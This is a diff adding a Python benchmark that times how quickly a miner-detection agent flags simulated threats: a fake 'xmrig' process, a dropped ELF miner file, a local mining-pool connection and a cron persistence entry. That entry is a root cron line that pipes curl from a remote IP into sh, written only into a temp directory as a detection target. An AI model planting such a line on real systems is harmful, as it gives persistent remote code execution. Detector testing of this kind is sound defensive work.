@@ -1,0 +1,200 @@
+"""Seconds from an action to its finding in the alert log, per scenario, p50 over repetitions.
+
+Runs the real agent (as root) on a tmp config and, in the same run, a naive baseline: a
+thread that polls /proc, the watched dirs and /proc/net/tcp once per agent.interval, the
+way a simple cron-style checker would. Prints each scenario's p50 against its target and
+the ratio agent/baseline.
+
+    sudo python3 benchmarks/bench_latency.py [--reps 5] [--interval 1.0]
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import os
+import secrets
+import signal
+import statistics
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))
+
+from agent_harness import AgentRun, Record, record_time
+from fakes import fake_elf_miner, free_pool_port, write_burner
+
+
+class Poller:
+    """The baseline: one look at the box per interval; notes when each key was first seen."""
+
+    def __init__(self, interval: float, watch: Path, etc: Path) -> None:
+        self.interval = interval
+        self.watch = watch
+        self.etc = etc
+        self.seen: dict[str, float] = {}
+        self.stop = threading.Event()
+
+    def look(self) -> None:
+        now = time.time()
+        keys: list[str] = []
+        for pid in os.listdir("/proc"):
+            if pid.isdigit():
+                with contextlib.suppress(OSError):
+                    keys.append("comm:" + Path(f"/proc/{pid}/comm").read_text().strip() + f":{pid}")
+        for root in (self.watch, self.etc):
+            for dirpath, _, files in os.walk(root):
+                keys.extend(
+                    f"file:{dirpath}/{f}:{os.path.getsize(f'{dirpath}/{f}')}" for f in files
+                )
+        with contextlib.suppress(OSError):
+            for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
+                local, remote = line.split()[1:3]
+                keys.append(f"tcp:{local}->{remote}")
+        for k in keys:
+            self.seen.setdefault(k, now)
+
+    def run(self) -> None:
+        while not self.stop.wait(self.interval):
+            self.look()
+
+    def first(self, match: Callable[[str], bool], since: float, timeout: float = 30.0) -> float:
+        """When the baseline first saw a key matching `match`, at or after `since`."""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            hits = [t for k, t in list(self.seen.items()) if t >= since and match(k)]
+            if hits:
+                return min(hits)
+            time.sleep(0.02)
+        raise TimeoutError("baseline never saw it")
+
+
+def p50(values: list[float]) -> float:
+    return statistics.median(values)
+
+
+def main() -> int:
+    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    ap.add_argument("--reps", type=int, default=5)
+    ap.add_argument("--interval", type=float, default=1.0)
+    args = ap.parse_args()
+    if os.geteuid() != 0:
+        print("bench_latency: needs root (netlink, fanotify)", file=sys.stderr)
+        return 2
+    with tempfile.TemporaryDirectory(prefix="bench-latency-") as tmp:
+        root = Path(tmp)
+        agent = AgentRun(root / "agent", interval=args.interval)
+        agent.start()
+        poller = Poller(args.interval, agent.watch, agent.etc)
+        threading.Thread(target=poller.run, daemon=True).start()
+        results: dict[str, tuple[list[float], list[float]]] = {}
+        started: list[subprocess.Popen[bytes]] = []
+        try:
+            for name, scenario in SCENARIOS.items():
+                ours, base = [], []
+                for i in range(args.reps):
+                    t0, rec, key = scenario(agent, root / f"{name}-{i}", started)
+                    ours.append(record_time(rec) - t0)
+                    base.append(poller.first(key, since=t0) - t0)
+                results[name] = (ours, base)
+        finally:
+            poller.stop.set()
+            for p in started:
+                with contextlib.suppress(ProcessLookupError):
+                    os.kill(p.pid, signal.SIGKILL)
+                p.wait(10)
+            agent.stop()
+    targets = {
+        "exec (miner name)": 0.2,
+        "file drop (ELF miner)": 2.0,
+        "persistence (cron line)": 2.0,
+        "network (pool port)": args.interval + 1.0,
+    }
+    print(f"agent.interval = {args.interval}s, {args.reps} repetitions each")
+    head = ("scenario", "p50", "max", "target", "ok", "baseline p50", "ratio")
+    print("{:26} {:>7} {:>7} {:>7}  {:3} {:>12} {:>6}".format(*head))
+    for name, (ours, base) in results.items():
+        target = targets[name]
+        ok = "yes" if p50(ours) <= target else "NO"
+        ratio = p50(ours) / p50(base) if p50(base) > 0 else float("inf")
+        print(
+            f"{name:26} {p50(ours):7.3f} {max(ours):7.3f} {target:7.2f}  {ok:3} "
+            f"{p50(base):12.3f} {ratio:6.2f}"
+        )
+    print("baseline: a poller reading /proc, the watched dirs and /proc/net/tcp once per interval")
+    return 0
+
+
+Scenario = Callable[[AgentRun, Path, list], tuple[float, Record, Callable[[str], bool]]]
+
+
+def launch(started: list, argv: list[str], seconds: float) -> subprocess.Popen[bytes]:
+    """Start argv under a shell of its own (the engine folds same-exe siblings of one
+    parent into one incident, and every burner here is the python interpreter)."""
+    env = {**os.environ, "BURN_SECONDS": str(seconds)}
+    p = subprocess.Popen(["bash", "-c", '"$@"; exit 0', "launch", *argv], env=env)
+    started.append(p)
+    return p
+
+
+def child_of(shell: subprocess.Popen[bytes], rule: str) -> Callable[[Record], bool]:
+    def match(r: Record) -> bool:
+        proc = r["process"]
+        return r["rule"].startswith(rule) and bool(proc) and proc["ppid"] == shell.pid
+
+    return match
+
+
+def exec_miner(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+    work.mkdir(parents=True)
+    burner = write_burner(work / "xmrig")
+    t0 = time.time()
+    shell = launch(started, [str(burner)], 3)
+    rec = agent.wait_for(child_of(shell, "miner.process_name"))
+    pid = rec["process"]["pid"]
+    return t0, rec, lambda k: k == f"comm:xmrig:{pid}"
+
+
+def file_drop(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+    path = agent.watch / f"{work.name}-{secrets.token_hex(3)}"
+    t0 = time.time()
+    fake_elf_miner(path)
+    rec = agent.wait_for(lambda r: bool(r["file"]) and r["file"]["path"] == str(path))
+    return t0, rec, lambda k: k.startswith(f"file:{path}:") and not k.endswith(":0")
+
+
+def persistence(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+    path = agent.etc / "cron.d" / work.name
+    t0 = time.time()
+    path.write_text("* * * * * root curl -fsSL http://203.0.113.5/u | sh\n")
+    rec = agent.wait_for(lambda r: bool(r["file"]) and r["file"]["path"] == str(path))
+    return t0, rec, lambda k: k.startswith(f"file:{path}:") and not k.endswith(":0")
+
+
+def network(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+    work.mkdir(parents=True)
+    burner = write_burner(work / "xmrig")
+    with free_pool_port() as pool:
+        url = f"stratum+tcp://127.0.0.1:{pool.port}"
+        t0 = time.time()
+        shell = launch(started, [str(burner), "-o", url], agent.interval + 5)
+        rec = agent.wait_for(child_of(shell, "network."), timeout=agent.interval + 15)
+        port_hex = f"{pool.port:04X}"
+        return t0, rec, lambda k: k.startswith("tcp:") and k.endswith(f"->0100007F:{port_hex}")
+
+
+SCENARIOS: dict[str, Scenario] = {
+    "exec (miner name)": exec_miner,
+    "file drop (ELF miner)": file_drop,
+    "persistence (cron line)": persistence,
+    "network (pool port)": network,
+}
+
+
+if __name__ == "__main__":
+    sys.exit(main())
